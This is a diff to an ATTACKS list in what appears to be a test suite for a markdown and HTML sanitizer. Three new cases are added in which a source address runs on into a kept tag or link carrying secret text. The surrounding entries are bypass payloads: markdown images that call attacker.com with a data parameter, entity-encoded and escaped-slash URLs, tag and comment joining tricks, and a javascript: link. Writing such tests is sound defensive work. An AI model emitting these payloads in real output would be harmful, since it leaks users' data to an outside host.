@@ -69,6 +69,9 @@ ATTACKS = [
     ("image joined around a removed comment", "![a<!-- ] -->](https&#58;//attacker.com/p.png?d=x)"),
     ("image joined around a removed tag", '![a<b title="]">](//attacker.com/p.png?d=x)'),
     ("escaped slashes", "![a<!-- ] -->](/\\/attacker.com/p.png)"),
+    ("a source's address read on into a kept tag", f'See {SOURCE}"secret-text<b>x</b>" now.'),
+    ("a source's address read on into a kept link", f"See {SOURCE}[secret-text]({SOURCE}) now."),
+    ("allowed address read on into a kept tag", 'https://wiki.acme.com/pub/x"travelpolicyreimbursesec<br>onomy"'),
     ("tag joined around a removed image", "<img src=![x](y)https://attacker.com/p.png>"),
     ("link joined into a script address", '[a<b x="]">](&#106;avascript:alert(1))'),
 ]
